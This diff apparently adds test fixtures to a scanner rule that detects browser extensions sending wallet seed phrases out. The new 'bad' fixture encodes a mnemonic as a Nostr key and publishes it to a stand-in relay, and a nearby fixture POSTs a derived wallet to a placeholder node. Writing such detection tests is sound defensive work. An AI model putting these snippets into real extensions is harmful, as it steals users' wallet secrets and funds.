@@ -27,6 +27,15 @@ export const walletPhraseSent = defineRule({
             '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
           'p.html': '<textarea id="mnemonic"></textarea><script type="module" src="p.js"></script>',
           'p.js':
+            'import { SimplePool, nip19 } from "nostr-tools"; go.onclick = () => { const key = nip19.nsecEncode(document.getElementById("mnemonic").value); new SimplePool().publish(["wss://relay.example"], { content: key }); };',
+        },
+      },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
+          'p.html': '<textarea id="mnemonic"></textarea><script type="module" src="p.js"></script>',
+          'p.js':
             'import { Wallet } from "ethers"; go.onclick = async () => { const account = Wallet.fromPhrase(document.getElementById("mnemonic").value); fetch("https://node.example", { method: "POST", body: JSON.stringify(account) }); };',
         },
       },
@@ -71,6 +80,15 @@ export const walletPhraseSent = defineRule({
       },
     ],
     good: [
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
+          'p.html': '<textarea id="mnemonic"></textarea><script type="module" src="p.js"></script>',
+          'p.js':
+            'import { nip19 } from "nostr-tools"; go.onclick = () => { const key = nip19.nsecEncode(document.getElementById("mnemonic").value); shown.textContent = key; };',
+        },
+      },
       {
         files: {
           'manifest.json':
